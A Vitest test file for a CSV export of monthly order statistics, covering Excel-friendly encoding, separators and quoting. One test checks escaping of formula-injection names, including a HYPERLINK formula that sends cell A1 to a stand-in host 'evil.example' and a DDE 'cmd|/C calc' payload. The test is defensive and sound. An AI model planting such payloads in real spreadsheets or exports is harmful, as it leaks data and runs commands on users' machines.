import { describe, expect, it } from 'vitest';
import { statsCsv } from './stats-csv';
import { splitRows, type UnitEconomics } from './stats-rules';

const figures = {
  orders: 2,
  revenue: 4280.5,
  promoDiscount: 210,
  documentsCost: 1400,
  assurancesCost: 1300,
  deliveryCost: 500,
  otherCost: 0,
  partnerCommission: 214.03,
  cost: 3414.03,
  margin: 866.47,
  marginPercent: 20.2,
  averageOrder: 2140.25,
};

const stats: UnitEconomics = {
  startDate: '2026-11-01',
  endDate: '2026-11-30',
  totals: figures,
  assurancesByDay: { weekday: 600, saturday: 700, sunday: 0 },
  cancelled: { orders: 1, revenue: 1200 },
  refunds: { orders: 2, amount: 3000.5, pending: 1000, failed: 0, kept: 500 },
  byDocument: [],
  byPartner: [{ ...figures, partnerId: 1, name: 'ООО «Ромашка»; филиал' }],
  byPickupPoint: [],
  byDelivery: [],
  byPayer: [],
  byAssignee: [],
  byDay: [{ ...figures, date: '2026-11-20' }],
  byWeek: [],
};

describe('statsCsv', () => {
  const text = statsCsv(stats, 'День', splitRows(stats, 'byDay'));
  const lines = text.slice(1).split('\r\n');

  it('starts with a UTF-8 byte order mark so a Russian Excel reads the Cyrillic', () => {
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('separates fields with semicolons and writes decimals with a comma, no thousands separator', () => {
    expect(lines[0]).toBe('Период: 01.11.2026 – 30.11.2026');
    expect(lines[1]?.split(';')).toHaveLength(13);
    expect(lines[2]).toBe('20.11.2026;2;4280,5;210;1400;1300;500;0;214,03;3414,03;866,47;20,2;2140,25');
    expect(lines[3]?.startsWith('Итого;2;4280,5;')).toBe(true);
    expect(lines[4]).toBe('Отменённые (не входят в итоги);1;1200');
    // Refunds are out of the revenue already; the line says how much and what of it is pending.
    expect(lines[5]).toBe(
      'Возвраты (выручка указана за их вычетом);2;3000,5;в обработке;1000;не прошли;0;удержано;500',
    );
  });

  it('quotes a name holding a semicolon or quotes so the columns stay in place', () => {
    const partners = statsCsv(stats, 'Партнёр', splitRows(stats, 'byPartner'));
    expect(partners).toContain('\r\n"ООО «Ромашка»; филиал";2;4280,5;');
  });

  it('leaves an empty cell where there is no margin percent', () => {
    const empty = {
      ...stats,
      byDay: [{ ...figures, marginPercent: null, averageOrder: null, date: '2026-11-21' }],
    };
    expect(statsCsv(empty, 'День', splitRows(empty, 'byDay'))).toContain(
      '21.11.2026;2;4280,5;210;1400;1300;500;0;214,03;3414,03;866,47;;\r\n',
    );
  });

  it('writes a name that would start a formula as text, the way OWASP says, and keeps a loss a number', () => {
    const names = [
      '=HYPERLINK("https://evil.example/?leak="&A1;"Подробнее")',
      '@SUM(1+1)*cmd|/C calc!A0',
      '+1+2',
      '-2+3',
      '\t=1+1',
      '\r=1+1',
    ];
    const rigged = {
      ...stats,
      byPickupPoint: names.map((name, index) => ({
        ...figures,
        margin: -50,
        marginPercent: -1.2,
        pickupPointId: index + 1,
        name,
      })),
    };
    const rows = statsCsv(rigged, 'Пункт выдачи', splitRows(rigged, 'byPickupPoint'))
      .slice(1)
      .split('\r\n')
      .slice(2, 2 + names.length);
    expect(rows.map((row) => row.slice(0, row.indexOf(';2;')))).toEqual([
      '"\'=HYPERLINK(""https://evil.example/?leak=""&A1;""Подробнее"")"',
      '"\'@SUM(1+1)*cmd|/C calc!A0"',
      '"\'+1+2"',
      '"\'-2+3"',
      '"\'\t=1+1"',
      '"\'\r=1+1"',
    ]);
    // The figures stay numbers Excel adds up: a loss is -50, not text.
    expect(rows[0]?.endsWith(';-50;-1,2;2140,25')).toBe(true);
  });
});
